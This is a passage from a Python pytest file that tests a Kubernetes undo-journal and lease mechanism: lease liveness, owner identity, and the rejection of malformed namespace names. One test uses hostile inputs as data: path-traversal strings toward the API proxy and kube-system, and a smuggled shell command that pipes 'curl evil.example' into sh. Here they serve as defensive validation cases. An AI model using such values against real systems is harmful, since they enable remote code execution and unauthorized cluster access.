    owner: Owner, holder: str, age_s: float, *, alive: bool
) -> None:
    """What a living run does is never undone, though its renewals fail; who is silent altogether is dead anywhere."""
    renewed = datetime.now(UTC) - timedelta(seconds=age_s)
    assert bool(entry_of(owner, holder, renewed, left_s=-1)) is alive


@pytest.mark.parametrize("left_s", [MINUTE_S, -1], ids=["in time", "late"])
@pytest.mark.parametrize(
    ("holder", "alive"),
    [
        pytest.param(replace(AWAY, scope="boot-2/pid:[2]"), False, id="another container of the name"),
        pytest.param(replace(AWAY, scope="boot-3/pid:[1]"), False, id="after a reboot"),
        pytest.param(replace(AWAY, started=100), False, id="the number is used again"),
        pytest.param(AWAY, True, id="its own"),
    ],
)
def test_a_lease_of_the_next_job_is_no_life_of_the_last(holder: Owner, left_s: float, *, alive: bool) -> None:
    """Jobs of one runner have the same host name, and pytest the same number: a run that took the lease heals."""
    assert bool(entry_of(AWAY, holder.holder(time.time_ns()), datetime.now(UTC), left_s=left_s)) is alive
    assert bool(entry_of(AWAY, holder.holder(time.time_ns(), "undoing since"), datetime.now(UTC))) is alive


@pytest.mark.parametrize(
    "about",
    [
        pytest.param("../../../../api/v1/namespaces/prod/pods/web/proxy/reset?", id="a path"),
        pytest.param(f"{'a' * 46}/../prod", id="a path behind what is cut"),
        pytest.param(f"{'a' * 46}/../kube-system", id="a path to Kubernetes' own"),
        pytest.param(f"{'a' * 46}; curl evil.example | sh #", id="words for a shell"),
        pytest.param("a" * 64, id="too long"),
        pytest.param("", id="none"),
    ],
)
@pytest.mark.parametrize("kind", EVERY)
def test_a_namespace_that_cannot_be_leads_nowhere(kind: UndoKind, about: str, infrastructure: Infrastructure) -> None:
    """The namespace where its journal would lie can be, as long names are cut; nothing is asked of the API by it."""
    entry = GENUINE[kind]
    api = Api(aimed(namespace=about)(entry) if kind in NAMESPACED else entry, about=about)
    api.namespaces[api.place] = {"labels": dict(OURS)}
    api.journal["metadata"]["annotations"] |= AWAY.annotations()
    refused, results = undone(api, infrastructure)
    assert len(refused) == 1
    assert "it is not where the journals of namespace" in refused[0]
    assert (results, api.writes, api.asked) == ([], [], [])


@pytest.mark.parametrize("renewed", ["0000-01-01T00:00:00.000000Z", "2026-01-01T00:00:00", "yesterday"])
def test_a_lease_of_no_possible_time_stops_nobody(renewed: str) -> None:
    """Whoever may write a lease beside a journal of his own cannot end the undoing of others by it."""
    api = Api(replace(GENUINE["uncordon"], deadline_ns=time.time_ns() + MINUTE_S * NS))
    api.journal["metadata"]["annotations"] |= AWAY.annotations()
    spec = {"holderIdentity": f"{AWAY.words}, since 10:00", "renewTime": renewed, "leaseDurationSeconds": 15}
    api.get = lambda _kind, _namespace, _name: {"spec": spec}  # type: ignore[method-assign]
    (left,) = find_left(cast("Any", api), None)
    assert left.alive == ""


@pytest.mark.parametrize(
    ("left_s", "holder", "alive"),
    [
        pytest.param(MINUTE_S, "", True, id="in time"),
        pytest.param(-1, "", False, id="silent"),
        pytest.param(-1, f"{Owner.this_process().words}, since 10:00", True, id="silent, with its lease"),
    ],
)
def test_a_run_whose_process_is_hidden_is_at_work_until_it_is_silent(
    left_s: float, holder: str, monkeypatch: pytest.MonkeyPatch, *, alive: bool
) -> None:
    """Another user's run on this host is no dead one because /proc shows it to nobody else."""
    monkeypatch.setattr(find, "started_tick", lambda _pid: HIDDEN)
    assert bool(entry_of(Owner.this_process(), holder, datetime.now(UTC), left_s=left_s)) is alive
